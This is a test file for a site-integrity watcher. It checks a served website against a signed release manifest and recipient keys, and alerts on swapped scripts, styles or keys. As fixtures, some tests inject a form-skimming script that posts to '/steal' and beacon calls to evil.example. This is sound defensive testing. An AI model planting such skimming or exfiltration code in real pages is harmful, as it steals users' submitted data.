/**
 * The intake watches the site (H1, N5), against a local HTTP server playing
 * the site: its key set, its signed release manifest, the contact and answer
 * pages in every locale, and the scripts and styles those pages load.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli } from '../src/cli.ts';
import { acceptRelease, loadKnownReleases, referencedScripts, watchSiteOnce } from '../src/site-watch.ts';
import { releasePublicKey, sha256, signRelease } from '../../tools/dev/release-manifest.ts';
import { watchedPages } from '../../protocol/release-manifest.ts';
import { localeCodes } from '../../protocol/locales.ts';
import { generateKeyPairSync } from 'node:crypto';
import { generateRecipientKeyPair } from '../../protocol/envelope.ts';
import { generateWrappedKey } from '../src/key-vault.ts';
import { makeIntake, type TestIntake } from './helpers.ts';
import { statementDifferences } from '../src/site-watch.ts';
import { exportIdentityKey, generateIdentityKey, signKeyStatement, type KeyStatement } from '../../protocol/key-statement.ts';
import type { KeySet } from '../../protocol/key-set.ts';

interface FakeSite {
  files: Record<string, string>;
  url: string;
  server: Server;
}

async function startSite(files: Record<string, string>): Promise<FakeSite> {
  const server = createServer((request, response) => {
    const body = files[new URL(request.url ?? '/', 'http://x').pathname];
    response.writeHead(body === undefined ? 404 : 200);
    response.end(body ?? 'not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { files, server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

/** The project's release key (a test one). */
const releaseKey = generateKeyPairSync('ed25519').privateKey.export({ format: 'jwk' });
const releaseKeys = [releasePublicKey(releaseKey)];

/** A site as the build makes it, publishing `keys` for stockholm, its manifest signed with the release key. */
function siteFiles(keys: { kid: string; publicKey: string }[]): Record<string, string> {
  const keySet = JSON.stringify({
    v: 2,
    keys: keys.map((k) => ({ kid: k.kid, recipient: 'stockholm', publicKey: k.publicKey, notAfter: '2030-01-01' })),
    recipients: [{ id: 'stockholm', serves: ['stockholm'] }],
    statements: [],
  });
  const main = 'import{s as e}from"./chunk.B1.js";e();';
  const chunk = 'export function s(){}';
  const reader = 'import"./chunk.B1.js";';
  const style = 'body{margin:0}';
  const pages: Record<string, string> = {};
  for (const page of watchedPages(localeCodes)) {
    pages[page] = page.endsWith('/kontakt/')
      ? `<html lang="${page.slice(1, 3)}"><link rel="stylesheet" href="/_astro/site.S1.css"><script type="module" src="/_astro/Contact.A1.js"></script></html>`
      : `<html lang="${page.slice(1, 3)}"><link rel="stylesheet" href="/_astro/site.S1.css"><script type="module" src="/_astro/Reader.R1.js"></script></html>`;
  }
  const files = {
    '/_astro/Contact.A1.js': main,
    '/_astro/chunk.B1.js': chunk,
    '/_astro/Reader.R1.js': reader,
    '/_astro/site.S1.css': style,
  };
  const manifest = JSON.stringify({
    v: 2,
    keySet: sha256(keySet),
    pages: Object.fromEntries(Object.entries(pages).map(([path, html]) => [path, sha256(html)])),
    files: Object.fromEntries(Object.entries(files).map(([path, body]) => [path, sha256(body)])),
  });
  return {
    '/intake-keys.json': keySet,
    '/release-manifest.json': manifest,
    '/release-manifest.sig': signRelease(manifest, releaseKey),
    ...pages,
    ...files,
  };
}

describe('intake watch', () => {
  let intake: TestIntake | undefined;
  let site: FakeSite | undefined;
  afterEach(async () => {
    await new Promise((resolve) => (site ? site.server.close(resolve) : resolve(undefined)));
    site = undefined;
    await intake?.cleanup();
  });

  const watch = (knownReleases: string[], pinned: string[] = []) =>
    watchSiteOnce({ siteUrl: site!.url, recipient: 'stockholm', heldKids: [intake!.kid], knownReleases, releaseKeys: pinned });

  it('finds the scripts a page loads and the modules they import', () => {
    expect(referencedScripts('<script src="/_astro/a.X.js"></script><link href="/_astro/b.css">')).toEqual(['/_astro/a.X.js']);
    expect(referencedScripts('import"./c.Y.js";import{a}from"./d.Z.js"')).toEqual(['/_astro/c.Y.js', '/_astro/d.Z.js']);
  });

  it('is quiet for a known release that publishes only keys this intake holds', async () => {
    intake = await makeIntake();
    site = await startSite(siteFiles([intake]));
    const digest = sha256(site.files['/release-manifest.json']!);
    const result = await watch([digest]);
    expect(result.alerts, JSON.stringify(result.alerts)).toEqual([]);
    expect(result.manifestDigest).toBe(digest);
  });

  it('alerts when the site lists a key for this recipient that the intake does not hold', async () => {
    intake = await makeIntake();
    const stranger = await generateRecipientKeyPair();
    site = await startSite(siteFiles([intake, stranger]));
    const result = await watch([sha256(site.files['/release-manifest.json']!)]);
    expect(result.alerts).toEqual([{ code: 'key_not_held', detail: expect.stringContaining(stranger.kid) }]);
  });

  it('alerts when the manifest changes without a release it knows, and when a script differs from it', async () => {
    intake = await makeIntake();
    site = await startSite(siteFiles([intake]));
    const known = sha256(site.files['/release-manifest.json']!);
    // A new release: the manifest changes.
    site.files['/release-manifest.json'] = site.files['/release-manifest.json']!.replace('"v":2', '"v":2 ');
    expect((await watch([known])).alerts.map((a) => a.code)).toEqual(['unknown_release']);
    // The same known manifest, but a swapped imported script.
    site.files['/release-manifest.json'] = site.files['/release-manifest.json'].replace('"v":2 ', '"v":2');
    site.files['/_astro/chunk.B1.js'] = 'export function s(){fetch("https://evil.example")}';
    expect(await watch([known])).toMatchObject({
      alerts: [{ code: 'script_mismatch', detail: expect.stringContaining('/_astro/chunk.B1.js') }],
    });
    // A script the manifest does not list.
    site.files['/sv/kontakt/'] += '<script src="/_astro/Extra.C3.js"></script>';
    site.files['/_astro/Extra.C3.js'] = '1';
    expect((await watch([known])).alerts.map((a) => a.detail)).toContainEqual(expect.stringContaining('Extra.C3.js'));
  });

  it('alerts on an extra script outside /_astro/ on the contact page, as in the review (N5)', async () => {
    intake = await makeIntake();
    site = await startSite(siteFiles([intake]));
    site.files['/sv/kontakt/'] = site.files['/sv/kontakt/']!.replace('</html>', '<script type="module" src="/k.js"></script></html>');
    site.files['/k.js'] = 'document.forms[0].onsubmit=()=>fetch("/steal")';
    const result = await watch([], releaseKeys);
    expect(result.alerts).toEqual([
      { code: 'page_mismatch', detail: '/sv/kontakt/ differs from the release manifest' },
      { code: 'script_mismatch', detail: '/k.js is loaded but not in the release manifest' },
    ]);
  });

  it('watches /svar/ in every locale, and the styles the pages load (N5)', async () => {
    intake = await makeIntake();
    site = await startSite(siteFiles([intake]));
    expect((await watch([], releaseKeys)).alerts).toEqual([]);
    // A swapped reader on the Tigrinya answer page, and a swapped style.
    site.files['/ti/svar/'] = site.files['/ti/svar/']!.replace('Reader.R1.js', 'Reader.R2.js');
    site.files['/_astro/Reader.R2.js'] = 'fetch("/x")';
    site.files['/_astro/site.S1.css'] = 'body{background:url(https://evil.example/p)}';
    expect((await watch([], releaseKeys)).alerts).toEqual([
      { code: 'page_mismatch', detail: '/ti/svar/ differs from the release manifest' },
      { code: 'script_mismatch', detail: '/_astro/site.S1.css differs from the release manifest' },
      { code: 'script_mismatch', detail: '/_astro/Reader.R2.js is loaded but not in the release manifest' },
    ]);
  });

  it('accepts a release signed by the pinned release key by itself, and alerts on one that is not (N5)', async () => {
    intake = await makeIntake();
    site = await startSite(siteFiles([intake]));
    const signed = await watch([], releaseKeys);
    expect(signed.alerts).toEqual([]);
    expect(signed.signed).toBe(true);
    // The same manifest, signed by another key.
    const other = generateKeyPairSync('ed25519').privateKey.export({ format: 'jwk' });
    site.files['/release-manifest.sig'] = signRelease(site.files['/release-manifest.json']!, other);
    expect((await watch([], releaseKeys)).alerts.map((a) => a.code)).toEqual(['unsigned_release']);
    // No signature at all; and a changed manifest with the old signature.
    delete site.files['/release-manifest.sig'];
    expect((await watch([], releaseKeys)).alerts.map((a) => a.code)).toEqual(['unsigned_release']);
    site.files['/release-manifest.sig'] = signRelease(site.files['/release-manifest.json']!, releaseKey);
    site.files['/release-manifest.json'] = site.files['/release-manifest.json']!.replace('"v":2', '"v":2 ');
    expect((await watch([], releaseKeys)).alerts.map((a) => a.code)).toEqual(['unsigned_release']);
    // Accepted by hand, after checking with the project: quiet again.
    expect((await watch([sha256(site.files['/release-manifest.json'])], releaseKeys)).alerts).toEqual([]);
  });

  it("alerts when the site cannot be read, and when the key set is not the manifest's", async () => {
    intake = await makeIntake();
    site = await startSite(siteFiles([intake]));
    const known = sha256(site.files['/release-manifest.json']!);
    site.files['/intake-keys.json'] = site.files['/intake-keys.json']!.replace('2030-01-01', '2031-01-01');
    expect((await watch([known])).alerts.map((a) => a.code)).toEqual(['key_set_mismatch']);
    delete site.files['/release-manifest.json'];
    expect((await watch([known])).alerts.map((a) => a.code)).toEqual(['unreachable']);
  });

  it('the CLI: watch --once exits 1 on an unknown release, and 0 once it is accepted', async () => {
    intake = await makeIntake();
    // The CLI reads the kids of the intake's wrapped keys (no passphrase needed).
    const wrapped = await generateWrappedKey(intake.dir, 'site watch test passphrase', '2099-01-01', { N: 2 ** 10, r: 8, p: 1 });
    site = await startSite(siteFiles([wrapped]));
    const lines: string[] = [];
    const io = { out: (line: string) => void lines.push(line), err: (line: string) => void lines.push(line) };
    const args = ['watch', '--dir', intake.dir, '--site', site.url, '--recipient', 'stockholm', '--once'];
    // The alert also goes through the configured alert channel, with its codes only (N5).
    const posted: string[] = [];
    const gateway = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => (posted.push(body), response.writeHead(204).end()));
    });
    await new Promise<void>((resolve) => gateway.listen(0, '127.0.0.1', resolve));
    process.env['UTVAG_ALERT_URL'] = `http://127.0.0.1:${(gateway.address() as AddressInfo).port}/alert`;
    try {
      expect(await runCli(args, io)).toBe(1);
    } finally {
      delete process.env['UTVAG_ALERT_URL'];
      gateway.close();
    }
    expect(lines.join('\n')).toMatch(/ALERT unknown_release/);
    expect(posted).toHaveLength(1);
    expect(JSON.parse(posted[0]!)).toEqual({ event: 'watch', alerts: ['unknown_release'], at: expect.any(String) });
    const digest = sha256(site.files['/release-manifest.json']!);
    // The alert gives the command to accept it, in the form that works for a digest starting with "-".
    expect(lines.join('\n')).toContain(`watch --accept-release=${digest}`);
    expect(await runCli(['watch', '--dir', intake.dir, `--accept-release=${digest}`], io)).toBe(0);
    expect(await loadKnownReleases(intake.dir)).toEqual([digest]);
    await acceptRelease(intake.dir, digest); // twice is once
    expect(await loadKnownReleases(intake.dir)).toEqual([digest]);
    expect(await runCli(args, io)).toBe(0);
    expect(lines.at(-1)).toMatch(/^watch: ok, release .+ keys for stockholm: [A-Z2-7]{4}(-[A-Z2-7]{4}){3}$/);
  });
});

describe("the key set served against the recipient's own statement (issue 20)", () => {
  const keySetWith = (statement: KeyStatement | null, keys: { kid: string; publicKey: string }[]): KeySet => ({
    v: 2,
    keys: keys.map((k) => ({ kid: k.kid, recipient: 'stockholm', publicKey: k.publicKey, notAfter: '2099-12-31' })),
    recipients: [{ id: 'stockholm', serves: ['stockholm'] }],
    statements: statement ? [statement] : [],
  });

  it('says nothing when the site serves exactly the newest statement and its keys, and says which part differs', async () => {
    const identity = await generateIdentityKey();
    const identityKey = await exportIdentityKey(identity.publicKey);
    const [a, b] = [await generateRecipientKeyPair(), await generateRecipientKeyPair()];
    const sign = (issued: string, keys: { publicKey: string }[]) =>
      signKeyStatement(
        { v: 1, recipient: 'stockholm', identityKey, issued, keys: keys.map((k) => ({ publicKey: k.publicKey, notAfter: '2099-12-31' })) },
        identity.privateKey,
      );
    const older = await sign('2026-12-01T00:00:00.000Z', [a]);
    const own = await sign('2026-12-05T00:00:00.000Z', [a, b]);
    expect(await statementDifferences(own, keySetWith(own, [a, b]), 'stockholm')).toEqual([]);

    const stale = await statementDifferences(own, keySetWith(older, [a]), 'stockholm');
    expect(stale.map((alert) => alert.code)).toEqual(['statement_mismatch', 'statement_mismatch']);
    expect(stale[0]!.detail).toContain('older statement');
    expect(stale[1]!.detail).toContain(`key ${b.kid}`);
    expect(stale[1]!.detail).toContain('not served');

    const none = await statementDifferences(own, keySetWith(null, []), 'stockholm');
    expect(none[0]!.detail).toContain('no signed statement');

    const stranger = await generateRecipientKeyPair();
    const extra = await statementDifferences(own, keySetWith(own, [a, b, stranger]), 'stockholm');
    expect(extra).toEqual([{ code: 'statement_mismatch', detail: expect.stringContaining(`serves key ${stranger.kid}`) }]);

    const newer = await sign('2026-12-06T00:00:00.000Z', [a, b]);
    expect((await statementDifferences(own, keySetWith(newer, [a, b]), 'stockholm'))[0]!.detail).toContain('not this intake');
  });
});

describe('intake watch against a hostile or broken site (fast-check)', () => {
  it('never throws, and alerts unless the site is exactly a release signed by the pinned key', async () => {
    const fc = (await import('fast-check')).default;
    const intakeKey = await generateRecipientKeyPair();
    const honest = siteFiles([intakeKey]);
    const path = fc.constantFrom(...Object.keys(honest));
    await fc.assert(
      fc.asyncProperty(path, fc.oneof(fc.string(), fc.json(), fc.constant('')), fc.boolean(), async (changed, body, missing) => {
        const files = { ...honest };
        if (missing) delete files[changed];
        else files[changed] = body;
        const fetcher = (async (url: URL) => {
          const found = files[url.pathname];
          return found === undefined ? new Response('no', { status: 404 }) : new Response(found);
        }) as unknown as typeof fetch;
        const result = await watchSiteOnce({
          siteUrl: 'http://site.test',
          recipient: 'stockholm',
          heldKids: [intakeKey.kid],
          knownReleases: [],
          releaseKeys,
          fetch: fetcher,
        });
        const unchanged = !missing && body === honest[changed];
        expect(result.alerts.length === 0).toBe(unchanged);
      }),
      { numRuns: 150 },
    );
  });
});
